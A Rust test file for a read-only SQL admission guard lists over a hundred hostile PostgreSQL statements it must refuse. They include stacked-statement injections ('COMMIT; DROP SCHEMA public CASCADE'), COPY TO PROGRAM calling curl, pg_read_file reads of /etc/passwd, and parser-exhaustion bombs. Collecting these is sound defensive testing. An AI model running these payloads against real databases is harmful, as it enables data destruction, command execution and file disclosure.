//! Statements that must never be admitted: published bypasses of other servers, and what PostgreSQL would let through.

use crate::guard::admit;

const HOSTILE: &[(&str, &str)] = &[
    // Leaving the transaction: the reference server's hole.
    ("several_statements", "COMMIT; DROP SCHEMA public CASCADE"),
    ("several_statements", "select 1; drop table t"),
    ("several_statements", "select 1;;select 2"),
    ("several_statements", "select 1; -- harmless\r\ndelete from t"),
    ("several_statements", "select 1 -- \rfrom t; delete from t"),
    ("several_statements", r"select '\'; drop table t; --'"),
    ("several_statements", "select $a$ $b$ $a$; drop table t; select $b$ $b$"),
    ("several_statements", "select /* /* */ ; */ 1; drop table t"),
    ("syntax_error", "select 1 */ ; drop table t /*"),
    ("syntax_error", "select /* ; drop table t"),
    ("syntax_error", "select 'open"),
    ("syntax_error", "select \"open"),
    ("syntax_error", "select $x$ open $y$"),
    ("empty", ""),
    ("empty", " -- only a comment\n"),
    ("empty", ";"),
    ("statement_kind", "begin"),
    ("statement_kind", "commit"),
    ("statement_kind", "rollback"),
    ("statement_kind", "savepoint a"),
    ("statement_kind", "set transaction read write"),
    ("statement_kind", "set session characteristics as transaction read write"),
    ("statement_kind", "set role postgres"),
    ("statement_kind", "reset all"),
    ("statement_kind", "discard all"),
    ("statement_kind", "prepare transaction 'x'"),
    // Writes, and writes that hide in a query.
    ("not_read_only", "insert into t values (1)"),
    ("not_read_only", "update t set a = 1"),
    ("not_read_only", "delete from t"),
    ("not_read_only", "MERGE into t using s on t.a = s.a when matched then delete"),
    ("not_read_only", "truncate t"),
    ("not_read_only", "create table t (a int)"),
    ("not_read_only", "create table t as select 1"),
    ("not_read_only", "alter system set work_mem = '1GB'"),
    ("not_read_only", "drop table t"),
    ("not_read_only", "/* a comment */ drop table t"),
    ("not_read_only", "grant all on t to public"),
    ("not_read_only", "refresh materialized view v"),
    ("not_read_only", "reindex table t"),
    ("not_read_only", "vacuum full t"),
    ("not_read_only", "analyze t"),
    ("not_read_only", "cluster t"),
    ("not_read_only", "comment on table t is 'x'"),
    ("not_read_only", "security label on table t is 'x'"),
    ("data_modifying_cte", "with x as (delete from t returning *) select * from x"),
    ("data_modifying_cte", "with x as (insert into t values (1) returning a) select * from x"),
    ("data_modifying_cte", "with x as (update t set a = 1 returning a) select 1"),
    (
        "data_modifying_cte",
        "with x as (merge into t using s on true when matched then delete returning t.*) select 1",
    ),
    ("data_modifying_cte", "select * from (with x as (delete from t returning *) select * from x) s"),
    ("not_read_only", "with x as (select 1) delete from t"),
    ("not_read_only", "with x as (select 1) insert into t select * from x"),
    ("not_read_only", "with x as (select 1) update t set a = 1"),
    ("select_into", "select 1 into t"),
    ("select_into", "select * into temp t from u"),
    ("select_into", "with x as (select 1) select * into t from x"),
    ("select_into", "explain analyze select 1 into t"),
    ("locking_clause", "select * from t for update"),
    ("locking_clause", "select * from t for no key update of t nowait"),
    ("locking_clause", "select * from t for share skip locked"),
    ("locking_clause", "select * from (select * from t for key share) s"),
    ("locking_clause", "table t for update"),
    ("locking_clause", "(select * from t) for update"),
    ("locking_clause", "with x as (select 1) table x for share"),
    ("locking_clause", "with x as (select * from t for update) select 1"),
    ("locking_clause", "select * from t limit 1 for update of t"),
    ("select_into", "select into t from u"),
    ("select_into", "select 1 into unlogged table t"),
    (
        "data_modifying_cte",
        "select * from t where a in (with x as (delete from u returning a) select a from x)",
    ),
    ("data_modifying_cte", "select 1 union (with x as (update t set a = 1 returning a) select a from x)"),
    ("data_modifying_cte", "explain delete from t"),
    ("data_modifying_cte", "explain (analyze) delete from t"),
    ("data_modifying_cte", "explain analyze with x as (delete from t returning *) select * from x"),
    ("statement_kind", "explain analyze create table t as select 1"),
    ("statement_kind", "explain create materialized view v as select 1"),
    ("statement_kind", "explain analyze execute p"),
    ("statement_kind", "explain declare c cursor for select 1"),
    // Code, files, other sessions, other servers.
    ("not_read_only", "do $$ begin commit; set transaction read write; create table t (); end $$"),
    ("not_read_only", "call p()"),
    ("not_read_only", "execute p"),
    ("not_read_only", "copy t to program 'curl example.org'"),
    ("not_read_only", "copy (select 1) to '/tmp/x'"),
    ("not_read_only", "copy t from stdin"),
    ("not_read_only", "create function f() returns int language sql as 'select 1'"),
    ("not_read_only", "import foreign schema s from server x into y"),
    ("statement_kind", "prepare p as select 1"),
    ("statement_kind", "deallocate all"),
    ("statement_kind", "declare c cursor for select 1"),
    ("statement_kind", "fetch all from c"),
    ("statement_kind", "lock table t in access exclusive mode"),
    ("statement_kind", "listen a"),
    ("statement_kind", "notify a"),
    ("statement_kind", "load 'plugin'"),
    ("statement_kind", "checkpoint"),
    ("treat", "select treat('/etc/passwd' as pg_read_file)"),
    ("treat", "select * from t where a = (select treat(1 as pg_sleep))"),
    ("field_call", "select ('/etc/passwd'::text).pg_read_file"),
    ("field_call", "select f.pg_read_file from lower('/etc/passwd') f"),
    ("field_call", "select (('/etc/passwd'::text).lower).\"pg_read_file\""),
    ("field_call", "select 1 from t order by (60).pg_sleep"),
    ("operator_schema", "select 1 operator(evil.+) 2"),
    ("operator_schema", "select 1 operator(\"PG_CATALOG\".+) 2"),
    // Text that no parser should have to trust.
    ("nul_byte", "select 1\0; drop table t"),
    ("syntax_error", "select from where"),
    ("syntax_error", "(delete from t)"),
    ("data_modifying_cte", "explain (delete from t)"),
    ("syntax_error", "select (select 1"),
    ("syntax_error", "select 1)"),
    ("parameter_style", "select :name"),
    ("syntax_error", "select * from t where a = ?"),
    ("statement_kind", "selec 1, show all"),
    ("parameter_number", "select $65536"),
    ("parameter_number", "select $0"),
];

#[test]
fn hostile_statements_are_refused_by_their_rule() {
    let wrong: Vec<String> = HOSTILE
        .iter()
        .filter_map(|(rule, sql)| match admit(sql) {
            Ok(_) => Some(format!("ADMITTED {sql}")),
            Err(refusal) if refusal.rule == *rule => None,
            Err(refusal) => Some(format!("{} instead of {rule}: {sql}: {refusal}", refusal.rule)),
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(HOSTILE.len() >= 60);
}

#[test]
fn bombs_are_refused_and_end_nothing() {
    let bombs: Vec<(&str, String)> = vec![
        ("too_deep", format!("select {}1{}", "(".repeat(5_000), ")".repeat(5_000))),
        ("too_deep", format!("select {}1{}", "[".repeat(201), "]".repeat(201))),
        ("too_deep", format!("select {}1 end", "case when true then ".repeat(300))),
        ("too_deep", format!("select 1 {}{}", "/*".repeat(33), "*/".repeat(33))),
        ("too_deep", format!("select {}1{}", "(select ".repeat(1_000), ")".repeat(1_000))),
        ("too_long", format!("select '{}'", "x".repeat(70_000))),
        ("too_long", format!("select {}1", "1,".repeat(20_000))),
        ("too_many_operators", format!("select 1{}", "+1".repeat(15_000))),
        ("too_many_operators", format!("select 1{}", "::int".repeat(5_000))),
        ("too_many_operators", format!("select true{}", " and true".repeat(5_000))),
        ("too_many_operators", format!("select {}true", "not ".repeat(10_000))),
        ("too_many_operators", format!("select {}1", "- ".repeat(10_000))),
        ("too_many_operators", format!("select 1{}", " union all select 1".repeat(3_000))),
        ("too_many_operators", format!("select * from t{}", " cross join t".repeat(3_000))),
        ("too_many_operators", format!("select a{}", ".a".repeat(5_000))),
        ("too_many_operators", format!("select a{}", "[1]".repeat(5_000))),
        ("too_many_operators", format!("select a{}", " collate \"C\"".repeat(3_000))),
        ("too_many_operators", format!("select 1{}", " is null".repeat(5_000))),
        ("too_many_operators", format!("select now(){}", " at local".repeat(5_000))),
        (
            "not_read_only",
            format!("create function f() returns int language sql as $$ select {} $$", "(".repeat(60_000)),
        ),
    ];
    for (rule, bomb) in bombs {
        let start: String = bomb.chars().take(40).collect();
        assert_eq!(admit(&bomb).map_err(|refusal| refusal.rule), Err(rule), "{start}");
    }
}

/// The bounds themselves must be safe to parse: just under each, nothing ends the process.
#[test]
fn text_just_within_the_bounds_is_read() {
    let within = [
        format!("select {}1{}", "(".repeat(200), ")".repeat(200)),
        format!("select 1{}", "+1".repeat(1_000)),
        format!("select {}true", "not ".repeat(1_000)),
        format!("select 1{}", " union all select 1".repeat(900)),
        format!("select 1{}", "::int".repeat(1_000)),
        format!("select 1 in ({}1)", "1,".repeat(14_000)),
        format!("select 1 {}{}", "/*".repeat(32), "*/".repeat(32)),
        format!("select {}1{}", "case when true then ".repeat(200), " end".repeat(200)),
    ];
    for sql in within {
        let start: String = sql.chars().take(40).collect();
        assert!(admit(&sql).is_ok(), "{start}: {:?}", admit(&sql));
    }
}

#[test]
fn a_refusal_says_where_and_what_instead() {
    let refusal = admit("select *\nfrom t\n  for update").unwrap_err();
    assert_eq!((refusal.line, refusal.column), (3, 3));
    assert_eq!(refusal.excerpt, "for update");
    assert_eq!(refusal.allowed, "the same query without the locking clause");
    assert_eq!(
        refusal.to_string(),
        "FOR UPDATE and FOR SHARE lock rows, which is a write (line 3, column 3)"
    );

    let escaped = admit("drop\u{1b}[2J\u{202e} table t").unwrap_err();
    assert_eq!(escaped.excerpt, "drop\\u{1b}[2J\\u{202e} table t");
}
